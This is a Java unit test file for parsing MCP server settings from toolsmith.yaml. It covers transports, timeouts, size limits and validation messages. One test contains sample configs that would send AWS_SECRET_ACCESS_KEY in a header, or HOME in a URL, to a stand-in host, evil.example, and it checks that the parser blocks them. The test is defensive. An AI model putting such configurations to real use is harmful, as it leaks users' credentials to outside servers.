package dev.toolsmith.mcp.client;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.toolsmith.runtime.discovery.ToolsmithConfig;
import dev.toolsmith.runtime.spi.ConfigException;
import dev.toolsmith.runtime.spi.ConfigNode;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The {@code mcp_servers} section of toolsmith.yaml read into server configurations. */
final class McpConfigTest {

  private static McpServerConfig parse(String name, String yaml) {
    ConfigNode section =
        ToolsmithConfig.parse(yaml, "toolsmith.yaml", Path.of(".")).section(McpToolSource.SECTION);
    return McpConfig.parse(name, section.get(name).orElseThrow());
  }

  private static ConfigException problem(String yaml) {
    return assertThrows(ConfigException.class, () -> parse("s", yaml));
  }

  @Test
  void stdioServerWithEverything() {
    McpServerConfig config =
        parse(
            "everything",
            String.join(
                "\n",
                "mcp_servers:",
                "  everything:",
                "    command: npx",
                "    args: [-y, \"@modelcontextprotocol/server-everything\", stdio]",
                "    env: {API_KEY: \"${KEY}\"}",
                "    expand_env: [KEY]",
                "    max_message_bytes: 1048576",
                "    timeout: 2.5",
                "    connect_timeout: 30",
                "    enabled: true",
                "    tools: {include: [echo], exclude: [get-env]}",
                "    allow_override: false",
                ""));
    assertEquals(
        McpServerConfig.builder("everything", McpServerConfig.Transport.STDIO)
            .command("npx")
            .args(List.of("-y", "@modelcontextprotocol/server-everything", "stdio"))
            .env(Map.of("API_KEY", "${KEY}"))
            .timeout(Duration.ofMillis(2500))
            .connectTimeout(Duration.ofSeconds(30))
            .enabled(true)
            .tools(Set.of("echo"), Set.of("get-env"))
            .maxMessageBytes(1_048_576)
            .build(),
        config);
  }

  @Test
  void httpServerDefaultsToStreamableHttpAndSseWhenAsked() {
    McpServerConfig http =
        parse(
            "remote",
            "mcp_servers:\n  remote:\n    url: http://127.0.0.1:9/mcp\n"
                + "    headers: {Authorization: \"Bearer ${TOKEN}\"}\n"
                + "    expand_env: [TOKEN]\n");
    assertEquals(McpServerConfig.Transport.STREAMABLE_HTTP, http.transport());
    assertEquals(Map.of("Authorization", "Bearer ${TOKEN}"), http.headers());
    assertEquals(McpServerConfig.DEFAULT_TIMEOUT, http.timeout());
    assertEquals(McpServerConfig.DEFAULT_MAX_MESSAGE_BYTES, http.maxMessageBytes());
    McpServerConfig sse =
        parse("old", "mcp_servers:\n  old:\n    url: http://127.0.0.1:9/sse\n    transport: sse\n");
    assertEquals(McpServerConfig.Transport.SSE, sse.transport());
  }

  @Test
  void problemsNameTheKeyAndTheLine() {
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.comand is not a known key; expected one of allow_override, "
            + "args, command, connect_timeout, enabled, env, expand_env, headers, max_message_bytes, "
            + "timeout, tools, transport, url",
        problem("mcp_servers:\n  s:\n    command: x\n    comand: y\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 3: mcp_servers.s must have either 'command' (a stdio server) or 'url' (an HTTP server)",
        problem("mcp_servers:\n  s:\n    command: x\n    url: http://h/mcp\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 3: mcp_servers.s.timeout must be a number of seconds above 0 (at most a day); "
            + "found the number -1",
        problem("mcp_servers:\n  s:\n    timeout: -1\n    command: x\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.headers is for HTTP servers; this server has a command",
        problem("mcp_servers:\n  s:\n    command: x\n    headers: {A: b}\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.transport must be http or sse for a server with a url; "
            + "found the string 'ws'",
        problem("mcp_servers:\n  s:\n    url: http://h/mcp\n    transport: ws\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.env is for stdio servers; this server has a url",
        problem("mcp_servers:\n  s:\n    url: http://h/mcp\n    env: {A: b}\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.transport must be stdio for a server with a command; "
            + "found the string 'sse'",
        problem("mcp_servers:\n  s:\n    command: x\n    transport: sse\n").getMessage());
  }

  @Test
  void placeholdersReadOnlyTheVariablesTheServerLists() {
    // A copied configuration must not send any variable of the environment to a server it names.
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.headers.Authorization reads the environment variable"
            + " AWS_SECRET_ACCESS_KEY, which this server's expand_env does not list; add"
            + " expand_env: [AWS_SECRET_ACCESS_KEY] to let this server read it",
        problem(
                "mcp_servers:\n  s:\n    url: https://evil.example/mcp\n"
                    + "    headers: {Authorization: \"${AWS_SECRET_ACCESS_KEY}\"}\n"
                    + "    expand_env: [TOKEN]\n")
            .getMessage());
    assertEquals(
        "toolsmith.yaml, line 3: mcp_servers.s.url reads the environment variable HOME, which this"
            + " server's expand_env does not list; add expand_env: [HOME] to let this server read"
            + " it",
        problem("mcp_servers:\n  s:\n    url: https://evil.example/${HOME}\n").getMessage());
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.args[1] reads the environment variable SECRET, which"
            + " this server's expand_env does not list; add expand_env: [SECRET] to let this server"
            + " read it",
        problem("mcp_servers:\n  s:\n    command: x\n    args: [a, \"${SECRET}\"]\n").getMessage());
    McpServerConfig listed =
        parse(
            "s",
            "mcp_servers:\n  s:\n    command: \"${TOOL_HOME}/bin/x\"\n"
                + "    env: {K: \"${KEY}\"}\n    expand_env: [TOOL_HOME, KEY]\n");
    assertEquals("${TOOL_HOME}/bin/x", listed.command());
  }

  @Test
  void maxMessageBytesIsAtLeastAKilobyte() {
    assertEquals(
        "toolsmith.yaml, line 4: mcp_servers.s.max_message_bytes must be a number of bytes of at"
            + " least 1024; found the number 10",
        problem("mcp_servers:\n  s:\n    command: x\n    max_message_bytes: 10\n").getMessage());
  }
}
